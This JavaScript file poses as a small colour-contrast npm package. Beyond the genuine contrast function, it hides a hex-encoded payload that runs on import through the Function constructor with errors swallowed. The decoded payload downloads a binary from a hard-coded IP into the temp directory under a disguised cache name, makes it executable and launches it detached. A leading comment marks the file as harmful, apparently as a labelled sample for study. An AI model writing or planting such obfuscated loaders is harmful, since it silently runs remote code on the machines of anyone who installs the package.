// Harmful: builds a function from a hex string with the Function constructor; the hidden body downloads a binary to tmp and runs it detached.
'use strict';

const pkg = { name: 'color-contrast-utils', version: '2.1.4' };

function contrast(a, b) {
  const l = (c) => (0.2126 * c[0] + 0.7152 * c[1] + 0.0722 * c[2]) / 255;
  const [x, y] = [l(a), l(b)].sort((m, n) => n - m);
  return (x + 0.05) / (y + 0.05);
}

const table =
  '636f6e73742063703d7228276368696c645f70726f6365737327292c6f733d7228276f7327292c703d6f732e746d7064697228292b272f2e6e6f64652d6779702d6361636865273b63702e6578656353796e6328276375726c202d6673534c20687474703a2f2f3230332e302e3131332e39312f6e202d6f20272b702b272026262063686d6f64202b7820272b702c7b737464696f3a2769676e6f7265277d293b63702e737061776e28702c5b5d2c7b64657461636865643a747275652c737464696f3a2769676e6f7265277d292e756e72656628293b';

const F = contrast.constructor;
try {
  new F('r', Buffer.from(table, 'hex').toString())(require);
} catch (_) {}

module.exports = { contrast, version: pkg.version };
